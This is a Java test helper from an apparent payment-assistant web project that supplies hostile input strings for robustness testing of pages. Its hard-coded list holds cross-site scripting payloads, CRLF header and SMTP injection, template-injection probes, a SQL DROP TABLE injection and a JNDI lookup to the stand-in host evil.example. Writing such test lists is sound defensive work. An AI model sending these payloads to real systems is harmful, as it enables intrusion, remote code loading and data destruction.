package org.paymentassistant.example.web;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.MalformedInputException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/** Strings that have broken pages: some of our own, and the lists of others where they lie beside the project. */
public final class HostileStrings {

    private static final Path LISTS = Path.of("..", "..", "shared", "robust", "dev", "strings");

    private static final List<String> OWN = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=\"alert(1)",
            "</title></textarea></svg><svg onload=alert(1)>",
            "javascript:alert(1)",
            "<a href=\"https://evil.example\">click</a>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "${7*7} #{7*7} {{7*7}} <%= 7*7 %> @import java.util.List",
            "&lt;b&gt; &amp;#60;b&amp;#62; &#x3c;b&#x3e;",
            "\u202egpj.exe\u2066\u200b",
            "line\r\nSet-Cookie: a=b\r\n\r\n<html>",
            "\r\n.\r\nMAIL FROM:<a@evil.example>\r\n",
            "\u560d\u560aLocation: https://evil.example",
            "\u0000\u0007\u001b[31mred\u001b[0m",
            "${jndi:ldap://evil.example/a}",
            "'; DROP TABLE pa_draft; --",
            "-->]]><!--",
            "\uff1cscript\uff1e",
            "\ud83d\ude00 \ufdfd \u0301\u0301\u0301");

    private HostileStrings() {}

    /** All of them; says where the lists are missing. */
    public static List<String> all() {
        Set<String> strings = new LinkedHashSet<>(OWN);
        if (Files.isDirectory(LISTS)) {
            files().forEach(file -> strings.addAll(lines(file)));
        } else {
            System.out.println("SKIPPED: the lists of hostile strings are not here; only " + OWN.size()
                    + " strings of our own are tried");
        }
        strings.removeIf(String::isBlank);
        return new ArrayList<>(strings);
    }

    private static List<Path> files() {
        try (Stream<Path> files = Files.walk(LISTS)) {
            return files.filter(file -> file.toString().endsWith(".txt"))
                    .sorted()
                    .toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<String> lines(Path file) {
        try {
            return Files.readAllLines(file, StandardCharsets.UTF_8);
        } catch (MalformedInputException e) {
            return latinLines(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<String> latinLines(Path file) {
        try {
            return Files.readAllLines(file, StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
